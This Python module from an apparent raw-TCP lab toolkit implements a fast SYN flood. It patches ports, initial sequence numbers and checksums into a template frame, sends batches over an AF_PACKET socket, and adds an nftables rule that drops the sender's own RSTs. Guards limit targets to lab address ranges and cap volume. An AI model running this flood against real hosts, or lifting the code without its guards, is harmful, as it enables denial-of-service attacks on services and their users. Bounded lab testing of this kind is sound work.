"""A bounded SYN flood from one pre-built frame: per packet only the source port, the ISN and the TCP
checksum change, patched with ``struct`` (``SynTemplate.patch_batch``) and sent in batches with one
``sendmmsg(2)`` per batch on an AF_PACKET socket that bypasses the qdisc layer.

The TCP checksum is updated, not recomputed: with 2**16 ≡ 1 (mod 0xffff) the one's-complement sum
(RFC 1071) of a field is congruent to the field read as an integer, so the new checksum is
``(c0 - sport - seq) mod 0xffff`` where c0 is the template's checksum with both fields zero
(the same arithmetic as rawtcp.wire.packet, which is checked byte-for-byte against scapy).

The flooding side's kernel would answer every SYN-ACK with a RST (no socket owns those ports) and so
empty the target's SYN queue, which the SYN-flood lab wants filled: one nftables rule in a table of
this process's own (``inet rawtcp_flood_<pid>``) drops those RSTs for the flood's source-port range
to the target only, and is removed afterwards; tables of dead processes are reaped on the next flood.
Floods only go to the lab's addresses, the benchmarking range 198.18.0.0/15 (RFC 2544) or the IPv6
documentation prefix 2001:db8::/32 (RFC 3849), and are bounded in count and time, with hard caps.
Over IPv6 the frame is the same but for the 40-byte IP header (RFC 8200 §3), which moves the TCP
fields, and has no header checksum; the TCP checksum covers the IPv6 pseudo-header (RFC 8200 §8.1).
"""

from __future__ import annotations

import contextlib
import ipaddress
import os
import random
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from rawtcp.core.segment import Flags, Option, Segment
from rawtcp.craft.errors import CraftError

LAB_NET = ipaddress.ip_network("198.18.0.0/15")  # RFC 2544 benchmarking range: the lab's IPv4 addresses
LAB_NET6 = ipaddress.ip_network("2001:db8::/32")  # RFC 3849 documentation prefix: the lab's IPv6 addresses
MAX_COUNT = 50_000_000
MAX_DURATION = 300.0
SPORT_RANGE = (1024, 65535)
BATCH = 256
LINUX_SYN_OPTIONS: tuple[Option, ...] = (("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0, 0)),
                                          ("NOP", None), ("WScale", 7))

# Offsets in an Ethernet + IPv4 (no options) + TCP frame; IPv6's fixed header is 20 bytes longer.
_OFF_SPORT = 14 + 20
_OFF_TCP_SUM = 14 + 20 + 16
_IPV6_EXTRA = 40 - 20
_PORTS_SEQ = struct.Struct("!HHI")  # sport, dport, seq
_SUM = struct.Struct("!H")
_M = 0xFFFF


# ---------------------------------------------------------------------------------------------
# the template


class SynTemplate:
    """One SYN frame, patched in place per packet: ``patch(buf, offset, sport, seq)``."""

    def __init__(self, src_ip: str, dst_ip: str, src_mac: bytes, dst_mac: bytes, dport: int,
                 window: int = 64240, options: tuple[Option, ...] = LINUX_SYN_OPTIONS, ttl: int = 64,
                 ip_id: int = 0) -> None:
        from rawtcp.wire.packet import FrameBuilder

        self.dport = dport
        builder = FrameBuilder(src_ip, dst_ip, src_mac, dst_mac, ttl=ttl, df=True)
        self.version = builder.version
        # ip_id does not exist in IPv6 (RFC 8200 §4.5: only in a fragment header)
        self.frame = builder.frame(Segment(0, dport, 0, 0, Flags.SYN, window, options),
                                   ip_id=ip_id if builder.version == 4 else None)
        self.size = len(self.frame)
        shift = _IPV6_EXTRA if builder.version == 6 else 0
        self._off_sport = _OFF_SPORT + shift
        self._off_sum = _OFF_TCP_SUM + shift
        self._c0 = int.from_bytes(self.frame[self._off_sum:self._off_sum + 2], "big")

    def checksum(self, sport: int, seq: int) -> int:
        return (self._c0 - sport - seq) % _M

    def patch(self, buf: bytearray | memoryview, offset: int, sport: int, seq: int) -> None:
        _PORTS_SEQ.pack_into(buf, offset + self._off_sport, sport, self.dport, seq)
        _SUM.pack_into(buf, offset + self._off_sum, (self._c0 - sport - seq) % _M)

    def patch_batch(self, buf: bytearray, n: int, state: int, lo: int, width: int) -> int:
        """Frames 0..n-1 of ``buf`` (``size`` bytes apart) patched with source ports in [lo, lo + width)
        and ISNs drawn from xorshift32 (Marsaglia 2003: the state is never 0); returns the new state.
        A generator in the loop rather than a call to random per packet: this module is compiled
        (rawtcp/compiled.py), and the loop is the flood's share of the CPU beside the kernel's."""
        pack_ports_seq, pack_sum = _PORTS_SEQ.pack_into, _SUM.pack_into
        off_sport, off_sum, dport, c0, size = self._off_sport, self._off_sum, self.dport, self._c0, self.size
        x = state
        for i in range(n):
            x ^= (x << 13) & 0xFFFFFFFF
            x ^= x >> 17
            x ^= (x << 5) & 0xFFFFFFFF
            seq = x
            x ^= (x << 13) & 0xFFFFFFFF
            x ^= x >> 17
            x ^= (x << 5) & 0xFFFFFFFF
            sport = lo + x % width
            offset = i * size
            pack_ports_seq(buf, offset + off_sport, sport, dport, seq)
            pack_sum(buf, offset + off_sum, (c0 - sport - seq) % _M)
        return x

    def build(self, sport: int, seq: int) -> bytes:
        buf = bytearray(self.frame)
        self.patch(buf, 0, sport, seq)
        return bytes(buf)


# ---------------------------------------------------------------------------------------------
# the flood


@dataclass
class FloodResult:
    sent: int
    seconds: float
    src_ip: str
    dst_ip: str
    dport: int
    ifname: str
    stopped_by: str  # "count", "duration" or "cap"

    @property
    def pps(self) -> float:
        return self.sent / self.seconds if self.seconds > 0 else 0.0

    def to_json(self) -> dict[str, Any]:
        return {"type": "flood", "sent": self.sent, "seconds": round(self.seconds, 4), "pps": round(self.pps),
                "src": self.src_ip, "dst": self.dst_ip, "dport": self.dport, "iface": self.ifname,
                "stopped_by": self.stopped_by}


def check_target(dst_ip: str) -> None:
    try:
        addr = ipaddress.ip_address(dst_ip)
    except ValueError:
        raise CraftError(f"flood refuses {dst_ip!r}: not an IP address") from None
    net = LAB_NET6 if addr.version == 6 else LAB_NET
    if addr not in net:
        raise CraftError(f"flood refuses {dst_ip}: it only sends to lab addresses in {LAB_NET} or {LAB_NET6} "
                         "(namespaces rawtcp made)")


def check_bounds(count: int | None, duration: float | None, rate: float | None) -> None:
    if count is None and duration is None:
        raise CraftError("a flood needs a bound: give --count and/or --duration")
    if count is not None and not 1 <= count <= MAX_COUNT:
        raise CraftError(f"--count {count} outside 1-{MAX_COUNT}")
    if duration is not None and not 0 < duration <= MAX_DURATION:
        raise CraftError(f"--duration {duration} outside (0, {MAX_DURATION:.0f}] s")
    if rate is not None and rate <= 0:
        raise CraftError("--rate must be positive")


def flood_syn(dst_ip: str, dport: int, *, count: int | None = None, duration: float | None = None,
              rate: float | None = None, iface: str | None = None, batch: int = BATCH,
              suppress: bool = True, rng: random.Random | None = None,
              on_start: Callable[[dict[str, Any]], None] | None = None,
              clock: Callable[[], float] = time.perf_counter) -> FloodResult:
    """SYNs to dst_ip:dport from random source ports with random ISNs, in the calling thread's namespace,
    until ``count`` packets or ``duration`` seconds (whichever first; MAX_DURATION always applies)."""
    from rawtcp.wire import nft, route
    from rawtcp.wire.rawsock import BatchSender, open_send_socket

    check_target(dst_ip)
    check_bounds(count, duration, rate)
    rng = rng or random.Random(int.from_bytes(os.urandom(8), "big"))
    path = route.resolve(dst_ip, iface)
    if path.src_mac is None or path.dst_mac is None:
        raise CraftError(f"{path.ifname} has no Ethernet header: the flood needs an Ethernet interface")
    tmpl = SynTemplate(path.src_ip, dst_ip, path.src_mac, path.dst_mac, dport)
    limit = min(count if count is not None else MAX_COUNT, MAX_COUNT)
    span = min(duration if duration is not None else MAX_DURATION, MAX_DURATION)
    if rate is not None:
        batch = max(1, min(batch, int(rate / 1000) or 1))  # about a batch per millisecond at most
    sock = open_send_socket(path.ifname)
    with contextlib.ExitStack() as stack:
        stack.callback(sock.close)
        if suppress:
            nft.reap_port_range_tables()
            stack.enter_context(nft.suppress_port_range_rsts(path.src_ip, dst_ip, dport, SPORT_RANGE))
        sender = BatchSender(sock.fileno(), tmpl.size, batch)
        stack.callback(sender.close)
        sender.fill_from(tmpl.frame)
        if on_start is not None:
            on_start({"src": path.src_ip, "dst": dst_ip, "dport": dport, "iface": path.ifname, "count": count,
                      "duration": duration, "rate": rate})
        buf, patch_batch = sender.buf, tmpl.patch_batch
        state = rng.getrandbits(32) | 1  # xorshift's state is never 0
        lo, width = SPORT_RANGE[0], SPORT_RANGE[1] - SPORT_RANGE[0] + 1
        sent = 0
        t0 = clock()
        end = t0 + span
        stopped_by = "count" if count is not None and count <= MAX_COUNT else "cap"
        while sent < limit:
            now = clock()
            if now >= end:
                stopped_by = "duration" if duration is not None and duration <= MAX_DURATION else "cap"
                break
            if rate is not None:
                due = t0 + sent / rate
                if due > now:
                    time.sleep(min(due - now, end - now))
                    continue
            n = min(batch, limit - sent)
            state = patch_batch(buf, n, state, lo, width)
            sent += sender.send(n)
        elapsed = clock() - t0
    return FloodResult(sent, elapsed, path.src_ip, dst_ip, dport, path.ifname, stopped_by)
